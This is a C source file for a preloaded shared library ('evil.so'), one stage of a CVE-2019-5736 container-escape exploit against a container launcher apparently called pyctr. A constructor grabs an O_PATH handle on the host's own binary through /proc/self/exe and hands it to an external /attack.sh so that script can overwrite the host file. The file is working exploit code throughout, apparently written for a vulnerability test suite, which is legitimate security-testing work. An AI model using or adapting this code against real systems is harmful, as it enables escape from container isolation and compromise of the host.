/* /evil.so, named in the hostile image's /etc/ld.so.preload (CVE-2019-5736).
 *
 * It runs only in a dynamic program started inside the container: the host's
 * python3 that pyctr's launcher ran from, executed again by the kernel as the
 * interpreter of "#!/proc/self/exe". Before that program's main, it keeps an
 * O_PATH handle on the binary (/proc/self/exe: the host's file), hands it to
 * /attack.sh in a child, and turns itself into a plain shell so that nothing
 * maps the binary any more (a binary being executed cannot be opened for writing).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void evil(void) {
    int fd = open("/proc/self/exe", O_PATH);
    if (fd < 0) {
        perror("evil.so: /proc/self/exe");
        _exit(1);
    }
    char arg[16];
    snprintf(arg, sizeof arg, "%d", fd);
    if (fork() == 0) {
        execl("/bin/sh", "sh", "/attack.sh", arg, (char *)NULL);
        _exit(127);
    }
    /* PID 1 of the container's pid namespace: stop on SIGTERM, as the tests' payloads do. */
    execl("/bin/sh", "sh", "-c", "trap 'exit 0' TERM; sleep 300 & wait", (char *)NULL);
    _exit(127);
}
